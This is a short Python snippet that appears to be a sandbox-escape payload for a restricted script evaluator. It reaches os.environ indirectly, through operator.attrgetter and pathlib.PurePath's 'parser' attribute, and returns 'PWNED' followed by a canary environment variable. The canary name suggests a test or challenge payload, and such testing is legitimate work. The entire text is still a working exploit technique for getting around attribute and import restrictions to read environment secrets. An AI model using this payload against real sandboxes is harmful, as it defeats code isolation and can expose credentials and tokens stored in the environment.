import operator, pathlib
p = operator.attrgetter('parser.os.environ')(pathlib.PurePath)
return 'PWNED ' + p['SCRIPTOOL_CANARY']
